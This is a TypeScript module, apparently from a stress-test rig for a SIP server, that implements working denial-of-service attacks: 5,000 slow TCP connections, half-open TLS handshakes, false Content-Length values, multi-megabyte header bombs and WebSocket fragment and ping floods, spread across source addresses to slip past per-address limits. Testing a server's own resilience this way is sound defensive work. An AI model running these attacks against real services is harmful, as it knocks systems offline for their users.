/** Connections that never do what a connection is for: slow ones, half-open ones, liars, bombs. */

import { randomBytes } from "node:crypto";
import { connect, type Socket } from "node:net";
import { pause } from "../../interop/rig/wait.ts";
import { type Attack, atRate, type Target } from "./attack.ts";

/** Sources of one network, so that a limit per address alone is not what saves the server. */
function sourcesOf(target: Target, count: number): string[] {
  const prefix = target.source.slice(0, target.source.lastIndexOf(".") + 1);
  return Array.from({ length: count }, (_, index) => `${prefix}${200 + index}`);
}

interface Crowd {
  readonly sockets: readonly Socket[];
  opened: number;
  refused: number;
  answered: number;
}

/** Opens `count` connections within a few seconds; `greet` says what each begins with. */
async function openCrowd(
  target: Target,
  port: number,
  count: number,
  sources: readonly string[],
  greet: (socket: Socket, index: number) => void,
): Promise<Crowd> {
  const sockets: Socket[] = [];
  const crowd: Crowd = { sockets, opened: 0, refused: 0, answered: 0 };
  await atRate(count / 3, 3, (index) => {
    const socket = connect({ host: target.host, port, localAddress: sources[index % sources.length]! });
    socket.on("error", () => crowd.refused++);
    socket.on("data", () => crowd.answered++);
    socket.once("connect", () => {
      crowd.opened++;
      greet(socket, index);
    });
    sockets.push(socket);
  });
  return crowd;
}

function disperse(crowd: Crowd): void {
  for (const socket of crowd.sockets) socket.destroy();
}

/** One octet of a request each second, for as long as it lasts. */
const slowConnections: Attack = async (target) => {
  const text = `OPTIONS sip:${target.domain} SIP/2.0\r\nSubject: ${"slow ".repeat(1_000)}`;
  const crowd = await openCrowd(target, target.tcp, 5_000, sourcesOf(target, 10), (socket) => {
    socket.write(text.slice(0, 1));
  });
  for (let second = 1; second < target.seconds; second++) {
    for (const socket of crowd.sockets) if (socket.writable) socket.write(text.slice(second, second + 1));
    await pause(1_000);
  }
  const open = crowd.sockets.filter((socket) => socket.readyState === "open").length;
  disperse(crowd);
  return { sent: crowd.sockets.length, answered: crowd.answered, note: `${open} of ${crowd.opened} open at the end` };
};

/** The first octets of a ClientHello, and then nothing. */
const halfOpenTls: Attack = async (target) => {
  const crowd = await openCrowd(target, target.tls, 3_000, sourcesOf(target, 10), (socket, index) => {
    if (index % 2 === 0) socket.write(Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]));
  });
  await pause((target.seconds - 3) * 1_000);
  const open = crowd.sockets.filter((socket) => socket.readyState === "open").length;
  disperse(crowd);
  return { sent: crowd.sockets.length, answered: crowd.answered, note: `${open} of ${crowd.opened} open at the end` };
};

/** One connection after the other, each with something that must not be believed. */
function insistently(port: (target: Target) => number, perSecond: number, texts: (target: Target) => Buffer[]): Attack {
  return async (target) => {
    const pieces = texts(target);
    let answered = 0;
    const open = new Set<Socket>();
    const sent = await atRate(perSecond, target.seconds, (index) => {
      const socket = connect({ host: target.host, port: port(target), localAddress: target.source });
      open.add(socket);
      socket.on("error", () => {});
      socket.on("data", () => answered++);
      socket.on("close", () => open.delete(socket));
      socket.once("connect", () => socket.write(pieces[index % pieces.length]!));
    });
    for (const socket of open) socket.destroy();
    return { sent, answered };
  };
}

function streamRequest(target: Target, lines: readonly string[], body = ""): Buffer {
  const key = randomBytes(6).toString("hex");
  const head = [
    `OPTIONS sip:${target.domain} SIP/2.0`,
    `Via: SIP/2.0/TCP ${target.source};branch=z9hG4bK${key}`,
    `From: <sip:attacker@${target.source}>;tag=${key}`,
    `To: <sip:${target.domain}>`,
    `Call-ID: ${key}`,
    "CSeq: 1 OPTIONS",
    "Max-Forwards: 70",
  ];
  return Buffer.from(`${[...head, ...lines].join("\r\n")}\r\n\r\n${body}`, "latin1");
}

const lengthLies = insistently(
  (target) => target.tcp,
  100,
  (target) =>
    ["-1", "-2147483648", "4294967296", "99999999999999999999999", "2000000000", "1e5", "0x7f", "", "1, 2"].map(
      (length) => streamRequest(target, [`Content-Length: ${length}`], "x".repeat(20_000)),
    ),
);

const headerBombs = insistently(
  (target) => target.tcp,
  20,
  (target) => [
    streamRequest(target, ["X-A: b\r\n".repeat(500_000), "Content-Length: 0"]),
    streamRequest(target, [`Subject: ${"a".repeat(4_000_000)}`, "Content-Length: 0"]),
    streamRequest(target, [`Via: ${"SIP/2.0/TCP a, ".repeat(200_000)}SIP/2.0/TCP a`, "Content-Length: 0"]),
    Buffer.from(`OPTIONS sip:${"a".repeat(4_000_000)} SIP/2.0\r\n\r\n`),
    Buffer.from("\r\n".repeat(1_000_000)),
  ],
);

/** A WebSocket frame of a client. RFC 6455 §5.2. */
function frame(opcode: number, final: boolean, payload: Buffer, announced = payload.length): Buffer {
  const head =
    announced < 126
      ? Buffer.from([0, 0x80 | announced])
      : announced < 65_536
        ? Buffer.from([0, 0x80 | 126, announced >> 8, announced & 255])
        : Buffer.concat([Buffer.from([0, 0x80 | 127]), lengthOf(announced)]);
  head[0] = (final ? 0x80 : 0) | opcode;
  // A mask of zeros leaves the payload as it is.
  return Buffer.concat([head, Buffer.alloc(4), payload]);
}

function lengthOf(octets: number): Buffer {
  const buffer = Buffer.alloc(8);
  buffer.writeBigUInt64BE(BigInt(octets));
  return buffer;
}

/** After the upgrade: fragments without end, giant announcements, pings by the thousand. RFC 6455 §5.4, §5.5. */
const webSocketBombs: Attack = async (target) => {
  const upgrade = [
    "GET / HTTP/1.1",
    `Host: ${target.host}:${target.ws}`,
    "Upgrade: websocket",
    "Connection: Upgrade",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Protocol: sip",
    "\r\n",
  ].join("\r\n");
  const crumb = frame(0, false, Buffer.from("a"));
  const crumbs = Buffer.concat(Array.from({ length: 10_000 }, () => crumb));
  const big = frame(0, false, Buffer.alloc(60_000, "a"));
  const pings = Buffer.concat(Array.from({ length: 2_000 }, () => frame(9, true, Buffer.alloc(125))));
  const bombs = [
    { first: frame(1, false, Buffer.from("OPTIONS ")), more: crumbs },
    { first: frame(1, false, Buffer.from("OPTIONS ")), more: big },
    { first: frame(1, true, Buffer.alloc(10), 2 ** 40), more: Buffer.alloc(50_000) },
    { first: Buffer.alloc(0), more: pings },
    { first: Buffer.alloc(0), more: frame(3, true, Buffer.from("reserved")) },
  ];
  let [answered, fired] = [0, 0];
  const crowd = new Set<Socket>();
  const sent = await atRate(20, target.seconds, (index) => {
    const bomb = bombs[index % bombs.length]!;
    const socket = connect({ host: target.host, port: target.ws, localAddress: target.source });
    crowd.add(socket);
    socket.on("error", () => {});
    let timer: NodeJS.Timeout | undefined;
    socket.on("close", () => {
      clearInterval(timer);
      crowd.delete(socket);
    });
    socket.once("connect", () =>
      socket.write(`${upgrade.slice(0, -2)}Sec-WebSocket-Key: ${randomBytes(16).toString("base64")}\r\n\r\n`),
    );
    socket.once("data", () => {
      answered++;
      socket.write(bomb.first);
      timer = setInterval(() => {
        if (socket.writableNeedDrain || !socket.writable) return;
        fired++;
        socket.write(bomb.more);
      }, 20);
    });
  });
  for (const socket of crowd) socket.destroy();
  return { sent, answered, note: `${fired} charges` };
};

export const streamAttacks = {
  "5,000 slow TCP connections": slowConnections,
  "3,000 half-open TLS handshakes": halfOpenTls,
  "lies about Content-Length, TCP": lengthLies,
  "header bombs, TCP": headerBombs,
  "WebSocket fragment bombs": webSocketBombs,
} as const satisfies Record<string, Attack>;
